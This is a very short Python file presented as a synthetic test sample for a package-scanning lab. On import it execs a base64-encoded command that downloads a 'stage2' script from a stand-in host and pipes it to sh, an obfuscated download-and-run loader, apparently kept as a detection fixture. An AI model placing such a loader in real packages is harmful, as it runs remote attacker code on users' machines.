"""Synthetic test package (slopspotter-lab); harmless imitation."""
import base64
exec(base64.b64decode(b"aW1wb3J0IHN1YnByb2Nlc3MKc3VicHJvY2Vzcy5ydW4oWyJzaCIsICItYyIsICJjdXJsIC1zIC1tIDMgaHR0cDovL3BheWxvYWQuZXhhbXBsZS5pbnZhbGlkL3N0YWdlMiB8IHNoIl0sIGNoZWNrPUZhbHNlKQo="))
